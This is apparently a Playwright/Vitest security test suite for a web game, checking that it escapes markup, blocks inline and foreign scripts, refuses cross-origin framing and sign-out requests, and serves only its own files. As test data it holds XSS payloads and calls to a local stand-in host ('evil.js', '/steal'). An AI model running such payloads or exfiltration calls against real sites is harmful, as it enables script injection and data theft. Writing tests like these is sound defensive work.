import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { fillCredentials, launchBrowser, newPerson, startMatch } from '../support/browser-player.ts';
import { type RunningCastling, startCastling } from '../support/castling.ts';

const markup = '<img src=x onerror="window.hacked=1"><script>window.hacked=1</script>';
let castling: RunningCastling;
let browser: Browser;
let foreign: Server;
let visits = 0;

beforeAll(async () => {
  foreign = createServer((_request, response) => {
    visits += 1;
    response.setHeader('content-type', 'text/javascript');
    response.setHeader('access-control-allow-origin', '*');
    response.end('window.hacked=1');
  });
  await new Promise<void>((resolve) => foreign.listen(0, '127.0.0.1', resolve));
  castling = await startCastling();
  browser = await launchBrowser();
});
afterAll(async () => {
  await browser?.close();
  await castling?.[Symbol.asyncDispose]();
  foreign.close();
});

describe('G6 B20 the page', () => {
  it('shows markup in names as text', async () => {
    const ada = await newPerson(browser, castling, { name: 'ada' });
    const bo = await newPerson(browser, castling, { name: 'bo' });
    // No name like this can be registered; a server that had gone wrong could send one.
    await bo.page.routeWebSocket(/\/play$/, (socket) => {
      const server = socket.connectToServer();
      server.onMessage((text) => {
        socket.send(String(text).replaceAll('"name":"ada"', `"name":${JSON.stringify(markup)}`));
      });
    });
    await bo.page.reload();
    await bo.page.locator('.lobby').waitFor();
    await startMatch(ada, bo);
    await bo.page.locator('.plate-name', { hasText: markup }).waitFor();
    await bo.page.locator('.headline', { hasText: markup }).waitFor();
    expect(await bo.page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(bo.complaints).toEqual([]);
    await Promise.all([ada.close(), bo.close()]);
  });

  it('refuses inline code, foreign code, evaluated text and calls to other hosts', async () => {
    const ada = await newPerson(browser, castling, { name: 'eve' });
    const origin = `http://localhost:${(foreign.address() as AddressInfo).port}`;
    const outcomes = await ada.page.evaluate(async (address) => {
      const attempt = async (work: () => unknown) => {
        try {
          await work();
          return 'done';
        } catch (error) {
          return error instanceof Error ? error.name : 'thrown';
        }
      };
      const element = document.createElement('div');
      document.body.append(element);
      // A tool's own evaluation is excused from the policy until it first waits.
      await new Promise((resolve) => setTimeout(resolve, 0));
      const inline = document.createElement('script');
      const outside = document.createElement('script');
      const image = new Image();
      const outcomes = {
        markup: await attempt(() => {
          element.innerHTML = '<img src=x onerror="window.hacked=1">';
        }),
        inline: await attempt(() => {
          inline.text = 'window.hacked=1';
          document.head.append(inline);
        }),
        handler: await attempt(() => element.setAttribute('onclick', 'window.hacked=1')),
        outside: await attempt(() => {
          outside.src = `${address}/evil.js`;
          document.head.append(outside);
        }),
        evaluated: await attempt(() => new Function('window.hacked=1')()),
        timer: await attempt(() => setTimeout('window.hacked=1' as unknown as () => void, 0)),
        call: await attempt(() => fetch(`${address}/steal`)),
        socket: await attempt(
          () =>
            new Promise((_resolve, reject) => {
              new WebSocket(address.replace('http', 'ws')).onerror = () => reject(new Error('refused'));
            }),
        ),
        image: await attempt(
          () =>
            new Promise((_resolve, reject) => {
              image.onerror = () => reject(new Error('refused'));
              image.src = `${address}/pixel`;
            }),
        ),
      };
      element.click();
      return outcomes;
    }, origin);
    expect(Object.entries(outcomes).filter(([, outcome]) => outcome === 'done')).toEqual([]);
    expect(await ada.page.evaluate(() => 'hacked' in window)).toBe(false);
    expect(visits).toBe(0);
    await ada.close();
  });

  it('cannot be framed or scripted by a page of another origin, nor used to sign anybody out', async () => {
    const ada = await newPerson(browser, castling, { name: 'tom' });
    const evil = await ada.newTab();
    await evil.goto(`http://localhost:${(foreign.address() as AddressInfo).port}/`);
    const outcome = await evil.evaluate(async (address) => {
      const statuses = [];
      for (const headers of [undefined, { 'castling-client': 'browser' }]) {
        for (const path of ['/auth/refresh', '/auth/logout']) {
          const init = { method: 'POST', credentials: 'include' as const, ...(headers && { headers }) };
          statuses.push(await fetch(address + path, init).then(String, () => 'refused'));
          // What needs no permission goes out, and must change nothing.
          await fetch(address + path, { ...init, mode: 'no-cors' }).catch(() => {});
        }
      }
      const frame = document.createElement('iframe');
      frame.src = address;
      document.body.append(frame);
      await new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }));
      let inside: string;
      try {
        inside = frame.contentWindow?.document.body.textContent ?? 'none';
      } catch {
        inside = 'refused';
      }
      return { statuses, inside };
    }, castling.url);
    expect(outcome).toEqual({ statuses: ['refused', 'refused', 'refused', 'refused'], inside: 'refused' });
    await ada.page.reload();
    await ada.page.locator('.lobby').waitFor();
    await ada.page.getByRole('button', { name: 'Sign out' }).click();
    await ada.page.locator('form.form').waitFor();
    await fillCredentials(ada.page, 'tom');
    await ada.page.locator('.lobby').waitFor();
    await ada.close();
  });

  it('G7 serves its own files and nothing else', async () => {
    const ada = await newPerson(browser, castling);
    for (const path of ['.git/config', 'package.json', 'index.html', 'assets/', 'src/main.ts', 'match/x']) {
      const response = await ada.page.request.get(`${castling.url}/${path}`);
      expect([path, response.status()]).toEqual([path, 404]);
    }
    const html = await (await ada.page.request.get(castling.url)).text();
    const assets = [...html.matchAll(/(?:src|href)="\.\/([^"]+)"/g)].map(([, path]) => path ?? '');
    expect(assets.length).toBeGreaterThanOrEqual(3);
    for (const path of assets) {
      const response = await ada.page.request.get(`${castling.url}/${path}`);
      expect([path, response.status()]).toEqual([path, 200]);
      expect(response.headers()['cache-control']).toContain('immutable');
      expect((await ada.page.request.get(`${castling.url}/${path}.map`)).status()).toBe(404);
    }
    await ada.close();
  });
});
